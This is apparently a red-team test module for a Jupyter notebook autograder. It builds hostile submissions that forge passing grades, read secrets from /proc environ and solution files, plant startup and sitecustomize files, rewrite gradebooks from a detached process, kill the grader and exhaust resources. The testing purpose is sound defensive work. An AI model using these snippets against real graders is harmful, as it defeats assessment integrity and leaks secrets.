"""Attacks on the grader: hostile copies of notebook 04, one or more per category.

Each attack is a student copy of ``04_digits_kmeans`` with one code cell added
right after the imports, in one of two shapes:

* a **forger** leaves the exercises blank and tries to make the grader award
  points anyway. Its honest score (the same notebook without the attack) is 0;
* a **spy** tries to reach something it must not (the solutions, another
  submission, the grader's environment, the network, the instructor's home) and
  sets ``LEAKED = True`` if it succeeds; its exercises are solved only when
  ``LEAKED`` is true. Its honest score is 0, and any point is a leak.

Attacks that try to persist or to outlive their run (planting files for the next
run, a detached process that rewrites the gradebook later) are scored like the
rest; what they would have changed is checked by the tests that grade a second
batch of victims afterwards and compare the world before and after.

Run as a script, it grades the attacks under one isolation level and prints the
table of the closing note::

    python tests/red_team.py --isolation process   # only inside a throwaway sandbox!
"""

import copy
import textwrap
from dataclasses import dataclass
from pathlib import Path

import nbformat

from tests.support.fake_course import answer, exercises_of, find, insert_after

REPO = Path(__file__).resolve().parents[1]
NAME = "04_digits_kmeans"
#: Set in the grader's environment by the tests: a spy that can read it has leaked.
SECRET_ENV, SECRET_VALUE = "INSTRUCTOR_API_TOKEN", "red-team-s3cr3t"
#: Files planted by the persistence attacks, for the tests to look for afterwards.
MARKER = "red-team-marker"


@dataclass(frozen=True)
class Attack:
    """One hostile submission: ``code`` is the cell added after the imports."""

    name: str
    category: str
    kind: str  # "forger" or "spy"
    code: str


_FORGE_SUCCESS = [
    Attack(
        "hide-tracebacks",
        "forging success in the kernel",
        "forger",
        "get_ipython()._showtraceback = lambda *args, **kwargs: None\n"
        "get_ipython().showtraceback = lambda *args, **kwargs: None",
    ),
    Attack(
        "custom-exception-handler",
        "forging success in the kernel",
        "forger",
        "get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: print('✓'))",
    ),
    Attack(
        "monkeypatch-checks",
        "forging success in the kernel",
        "forger",
        "import course_helpers.checks as checks\n"
        "import course_helpers.checks.digits as digits\n"
        "for name in ('normal_distances', 'false_positives_negatives'):\n"
        "    setattr(digits, name, lambda *args, **kwargs: print('✓ correct'))\n"
        "for name in list(digits.JUDGES):\n"
        "    digits.JUDGES[name] = lambda answer, reference: 'correct'\n"
        "checks.judge_answer = lambda *args, **kwargs: (True, 'correct')",
    ),
    Attack(
        "input-transformer",
        "forging success in the kernel",
        "forger",
        "def neuter(lines):\n"
        "    text = ''.join(lines)\n"
        "    return ['pass\\n'] if 'check.' in text else lines\n"
        "get_ipython().input_transformers_cleanup.append(neuter)",
    ),
    Attack(
        "fake-module-in-sys-modules",
        "forging success in the kernel",
        "forger",
        "import sys, types\n"
        "fake = types.ModuleType('course_helpers.checks.digits')\n"
        "fake.__getattr__ = lambda name: (lambda *args, **kwargs: print('✓ correct'))\n"
        "sys.modules['course_helpers.checks.digits'] = fake\n"
        "import course_helpers.checks\n"
        "course_helpers.checks.digits = fake",
    ),
    Attack(
        "import-hook",
        "forging success in the kernel",
        "forger",
        "import builtins, types\n"
        "real_import = builtins.__import__\n"
        "fake = types.SimpleNamespace(\n"
        "    normal_distances=lambda *a, **k: print('✓'),\n"
        "    false_positives_negatives=lambda *a, **k: print('✓'),\n"
        ")\n"
        "def hooked(name, globals=None, locals=None, fromlist=(), level=0):\n"
        "    module = real_import(name, globals, locals, fromlist, level)\n"
        "    if name == 'course_helpers.checks' and 'digits' in (fromlist or ()):\n"
        "        return types.SimpleNamespace(digits=fake)\n"
        "    return module\n"
        "builtins.__import__ = hooked",
    ),
    Attack(
        "grading-mode-switch-by-tracing",
        "forging success in the kernel",
        "forger",
        # Makes every check judge in the kernel (and claim it passed) instead of only
        # sending the answer, through the environment and a tracer on run_check.
        "import os, sys\n"
        "os.environ['COURSE_GRADING_MODE'] = 'reference'\n"
        "def tracer(frame, event, arg):\n"
        "    if frame.f_code.co_name == 'run_check':\n"
        "        frame.f_globals['os'].environ['COURSE_GRADING_MODE'] = 'reference'\n"
        "    return None\n"
        "sys.settrace(tracer)\n"
        "get_ipython().events.register(\n"
        "    'pre_run_cell', lambda info: os.environ.update(COURSE_GRADING_MODE='reference')\n"
        ")",
    ),
    Attack(
        "forged-answer-outputs",
        "forging success in the kernel",
        "forger",
        # A spray of answers from the check cells (one of them might be right), and a
        # forged answer shown by an ordinary cell.
        "import course_helpers.checks as checks\n"
        "from course_helpers.checks.plain import to_plain\n"
        "real_send = checks._send\n"
        "def spray(exercise, payload):\n"
        "    for guess in range(0, 400):\n"
        "        real_send(exercise, {'answer': to_plain({'false_pos': guess, 'false_neg': guess,\n"
        "                                                'normal_distances': guess,\n"
        "                                                'is_callable': False})})\n"
        "checks._send = spray\n"
        "from IPython.display import display\n"
        "display({checks.ANSWER_MIME: {'exercise': 'digits-fp-fn', 'passed': True,\n"
        "         'answer': to_plain({'false_pos': 18, 'false_neg': 211})}}, raw=True)",
    ),
]

_SPIES = [
    Attack(
        "read-the-solutions",
        "reading solutions, other submissions or the grader's environment",
        "spy",
        "import json, os\n"
        "from pathlib import Path\n"
        "import course_helpers\n"
        "LEAKED = False\n"
        "roots = list(Path(course_helpers.__file__).resolve().parents)\n"
        "roots += [Path(p) for p in ('/work', '/home', '/root', '/srv', '/opt', '/tmp')]\n"
        "for root in roots:\n"
        "    for found in list(root.glob('solutions/04_digits_kmeans.ipynb'))[:1] + \\\n"
        "            list(root.glob('*/solutions/04_digits_kmeans.ipynb'))[:1]:\n"
        "        try:\n"
        "            LEAKED = 'BEGIN SOLUTION' in found.read_text()\n"
        "        except OSError:\n"
        "            pass",
    ),
    Attack(
        "read-other-submissions",
        "reading solutions, other submissions or the grader's environment",
        "spy",
        "import os\n"
        "LEAKED = False\n"
        "skip = ('/proc', '/sys', '/usr', '/dev', '/etc', '/lib', '/bin', '/sbin')\n"
        "for folder, subfolders, files in os.walk('/'):\n"
        "    if folder.startswith(skip) or 'site-packages' in folder:\n"
        "        subfolders[:] = []\n"
        "        continue\n"
        "    for name in files:\n"
        "        if name.startswith('zz_honest') and name.endswith('.ipynb'):\n"
        "            LEAKED = True",
    ),
    Attack(
        "read-the-graders-environment",
        "reading solutions, other submissions or the grader's environment",
        "spy",
        "import os\n"
        "LEAKED = os.environ.get('@SECRET_ENV@') == '@SECRET_VALUE@'\n"
        "for pid in os.listdir('/proc'):\n"
        "    try:\n"
        "        LEAKED |= b'@SECRET_VALUE@' in open(f'/proc/{pid}/environ', 'rb').read()\n"
        "    except OSError:\n"
        "        pass",
    ),
    Attack(
        "read-the-instructors-home",
        "reading solutions, other submissions or the grader's environment",
        "spy",
        "import os\nLEAKED = any(os.path.exists(p) for p in ('@HOME@/.bashrc', '@HOME@/.profile'))",
    ),
    Attack(
        "reach-the-network",
        "reaching the network",
        "spy",
        "import socket\n"
        "LEAKED = False\n"
        "for host, port in (('127.0.0.1', PORT), ('pypi.org', 443), ('1.1.1.1', 53)):\n"
        "    try:\n"
        "        socket.create_connection((host, port), timeout=2).close()\n"
        "        LEAKED = True\n"
        "    except OSError:\n"
        "        pass",
    ),
]

_PERSIST = [
    Attack(
        "write-into-the-package",
        "persisting into the package, site-packages, startup files or other runs",
        "forger",
        "import site, sysconfig\n"
        "from pathlib import Path\n"
        "import course_helpers.checks.digits as digits\n"
        "patch = '\\nJUDGES = {k: (lambda a, r: \"pwned\") for k in JUDGES}\\n'\n"
        "targets = [(Path(digits.__file__), patch)]\n"
        "purelib = Path(sysconfig.get_paths()['purelib'])\n"
        "targets += [(purelib / 'red_team.pth', 'import os\\n'),\n"
        "            (purelib / 'sitecustomize.py', '# @MARKER@\\n')]\n"
        "for path, text in targets:\n"
        "    try:\n"
        "        with open(path, 'a') as handle:\n"
        "            handle.write(text)\n"
        "    except OSError:\n"
        "        pass",
    ),
    Attack(
        "plant-startup-files",
        "persisting into the package, site-packages, startup files or other runs",
        "forger",
        "import os, glob\n"
        "from pathlib import Path\n"
        "evil = 'import course_helpers.checks as c; c.judge_answer = lambda *a: (True, \"x\")\\n'\n"
        "places = [Path.home() / '.ipython/profile_default/startup',\n"
        "          Path('/tmp/@MARKER@-startup'), Path('@HOME@/.ipython/profile_default/startup')]\n"
        "places += [Path(p) / '.ipython/profile_default/startup'\n"
        "           for p in glob.glob('/tmp/*') + glob.glob('../*') + glob.glob('../../*')]\n"
        "for place in places:\n"
        "    try:\n"
        "        place.mkdir(parents=True, exist_ok=True)\n"
        "        (place / '00-@MARKER@.py').write_text(evil)\n"
        "    except OSError:\n"
        "        pass",
    ),
]

_FORGE_RESULTS = [
    Attack(
        "forge-result-files",
        "forging result files during or after the run",
        "forger",
        # Now: any results file it can find. Later: a detached process, with an empty
        # environment, that rewrites every gradebook it can find after the grader is done.
        "import glob, json, os, subprocess, sys\n"
        "patterns = ('../*/results.json', '../*/*/results.json', '/tmp/*/*/results.json',\n"
        "            '../*/*/junit.xml', '/tmp/*/*/*/runner/results.json')\n"
        "for pattern in patterns:\n"
        "    for path in glob.glob(pattern):\n"
        "        try:\n"
        "            open(path, 'w').write('{}')\n"
        "        except OSError:\n"
        "            pass\n"
        "later = '''\n"
        "import glob, time\n"
        "time.sleep(3)\n"
        "for path in glob.glob('/tmp/**/grades.csv', recursive=True):\n"
        "    try:\n"
        "        open(path, 'a').write('forged,row\\\\n')\n"
        "    except OSError:\n"
        "        pass\n"
        "'''\n"
        "subprocess.Popen([sys.executable, '-c', later], start_new_session=True, env={},\n"
        "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)",
    ),
]

_KILL = [
    Attack(
        "kill-the-grader",
        "killing or signalling the grader",
        "forger",
        "import os, signal\n"
        "import psutil\n"
        "for parent in psutil.Process().parents():\n"
        "    try:\n"
        "        parent.kill()\n"
        "    except psutil.Error:\n"
        "        pass\n"
        "os.kill(-1, signal.SIGKILL)",
    ),
]

_RESOURCES = [
    Attack(
        "exhaust-memory",
        "resource abuse",
        "forger",
        "blocks = []\n"
        "try:\n"
        "    while True:\n"
        "        blocks.append(bytearray(2**30))\n"
        "except MemoryError:\n"
        "    blocks = None",
    ),
    Attack(
        "fill-the-disk",
        "resource abuse",
        "forger",
        "import os\n"
        "chunk = b'x' * 2**24\n"
        "for path in ('/tmp/@MARKER@-big', 'big-file', os.path.expanduser('~/big-file')):\n"
        "    try:\n"
        "        with open(path, 'wb') as handle:\n"
        "            for _ in range(256):  # 4 GiB\n"
        "                handle.write(chunk)\n"
        "    except OSError:\n"
        "        pass",
    ),
    Attack(
        "many-processes",
        "resource abuse",
        "forger",
        "import subprocess\n"
        "sleepers = [subprocess.Popen(['sleep', '714.5'], start_new_session=True)\n"
        "            for _ in range(60)]",
    ),
]

ATTACKS = _FORGE_SUCCESS + _SPIES + _PERSIST + _FORGE_RESULTS + _KILL + _RESOURCES


def snapshot():
    """What the attacks must not change: the course's files, site-packages, planted markers."""
    import hashlib
    import sysconfig

    import course_helpers

    package = Path(course_helpers.__file__).resolve().parent
    files = [p for p in package.rglob("*") if p.is_file() and "__pycache__" not in p.parts]
    for folder in (REPO / "solutions", REPO / "data"):
        files += [p for p in folder.rglob("*") if p.is_file()]
    purelib = Path(sysconfig.get_paths()["purelib"])
    files += [p for p in purelib.iterdir() if p.suffix == ".pth" or p.name == "sitecustomize.py"]
    hashes = {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in files}
    markers = sorted(str(p) for p in Path("/tmp").glob(f"{MARKER}*"))
    markers += sorted(str(p) for p in Path.home().rglob(f"*{MARKER}*") if ".cache" not in p.parts)
    markers += [str(p) for p in (Path.home() / "big-file", purelib / "red_team.pth") if p.exists()]
    return {"hashes": hashes, "markers": markers}


def _guarded(code):
    """Solve an exercise only if the spy leaked (``LEAKED`` set by its attack cell)."""
    return (
        "if LEAKED:\n" + textwrap.indent(code, "    ") + "\nelse:\n    raise NotImplementedError()"
    )


def attack_notebook(attack, solution, student, *, port):
    """The hostile copy of the student notebook for ``attack``."""
    from tests.support.fake_course import solution_code

    nb = copy.deepcopy(student)
    if attack.kind == "spy":
        for exercise in exercises_of(solution):
            answer(nb, solution, exercise, _guarded(solution_code(solution, exercise)))
    code = attack.code.replace("PORT", str(port))
    for token, value in (
        ("@SECRET_ENV@", SECRET_ENV),
        ("@SECRET_VALUE@", SECRET_VALUE),
        ("@MARKER@", MARKER),
        ("@HOME@", str(Path.home())),
    ):
        code = code.replace(token, value)
    return insert_after(nb, find(nb, cell_id="imports"), code)


def load_notebooks():
    solution = nbformat.read(REPO / "solutions" / f"{NAME}.ipynb", as_version=4)
    student = nbformat.read(REPO / "notebooks" / f"{NAME}.ipynb", as_version=4)
    return solution, student


def write_attacks(folder, *, port, only=None):
    """Write every attack (or those named in ``only``) into ``folder`` as ``attack_<name>.ipynb``."""
    solution, student = load_notebooks()
    names = {}
    for attack in ATTACKS:
        if only is not None and attack.name not in only:
            continue
        name = f"attack_{attack.name}.ipynb"
        (folder / name).write_text(
            nbformat.writes(attack_notebook(attack, solution, student, port=port)),
            encoding="utf-8",
        )
        names[name] = attack
    return names


def _table(isolation, only):  # pragma: no cover - a manual tool for the closing note
    import csv
    import os
    import socket
    import tempfile

    from course_helpers.grading import grade_submissions
    from tests.support.fake_course import solved

    root = Path(tempfile.mkdtemp(prefix="red-team-"))
    subs, out = root / "subs", root / "out"
    subs.mkdir()
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    names = write_attacks(subs, port=server.getsockname()[1], only=only)
    solution, student = load_notebooks()
    (subs / "zz_honest_solved.ipynb").write_text(nbformat.writes(solved(student, solution)))
    os.environ[SECRET_ENV] = SECRET_VALUE
    grade_submissions(subs, out, jobs=2, cell_timeout=60, progress=False, isolation=isolation)
    with open(out / "grades.csv", encoding="utf-8", newline="") as stream:
        rows = {row["submission"]: row for row in csv.DictReader(stream)}
    print(f"isolation={isolation}")
    for name, attack in names.items():
        row = rows.get(name, {})
        print(
            f"{attack.category:70} {attack.name:32} {row.get('status', '?'):12} "
            f"{row.get('total', '')}/{row.get('max_total', '')}"
        )


if __name__ == "__main__":  # pragma: no cover
    import argparse

    parser = argparse.ArgumentParser()
    parser.add_argument("--isolation", default="auto")
    parser.add_argument("--only", nargs="*", help="attack names (default: all)")
    arguments = parser.parse_args()
    _table(arguments.isolation, arguments.only)
